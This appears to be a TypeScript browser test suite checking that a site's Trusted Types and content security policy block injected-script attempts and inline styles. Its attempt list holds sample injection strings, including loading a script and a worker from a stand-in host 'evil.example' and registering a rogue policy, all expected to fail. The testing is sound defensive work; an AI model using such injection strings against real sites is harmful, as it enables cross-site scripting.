import { expect } from "chai";
import { getStage, openPage, type Stage } from "../support/browser.ts";

/** What a script that got into a page would try, and a word for how that ended. */
const ATTEMPTS: Record<string, string> = {
  "text as markup": `document.body.innerHTML = "<p>x</p>"`,
  "text beside markup": `document.body.insertAdjacentHTML("beforeend", "<p>x</p>")`,
  "a document of text": `document.createElement("iframe").srcdoc = "<p>x</p>"`,
  "the address of a script elsewhere": `document.createElement("script").src = "https://evil.example/x.js"`,
  "a worker from elsewhere": `new Worker("https://evil.example/x.js")`,
  "a policy of its own": `trustedTypes.createPolicy("mine", { createHTML: (text) => text })`,
  "another default policy": `trustedTypes.createPolicy("default", { createHTML: (text) => text })`,
};

describe("the policy of pages", () => {
  let stage: Stage;
  before(async function () {
    this.timeout(120_000);
    stage = await getStage();
  });

  it("lets no text become markup or the address of a script, whatever runs in a page", async () => {
    const { page } = await openPage(stage);
    await page.goto("/");
    await page.getByRole("heading", { level: 1 }).waitFor();
    for (const [what, attempt] of Object.entries(ATTEMPTS)) {
      const ended = await page.evaluate(`(() => { try { ${attempt}; return "it was done"; } catch (error) { return error.name; } })()`);
      expect(ended, what).to.equal("TypeError");
    }
    await page.close();
  });

  it("applies no style that stands in markup", async () => {
    const { page, complaints } = await openPage(stage);
    await page.goto("/");
    await page.getByRole("heading", { level: 1 }).waitFor();
    const margin = await page.evaluate(() => {
      document.body.setAttribute("style", "margin: 77px");
      return getComputedStyle(document.body).marginTop;
    });
    expect(margin).to.not.equal("77px");
    // And a report of it fails the tests of the pages.
    expect(complaints.join()).to.include("style");
    await page.close();
  });
});
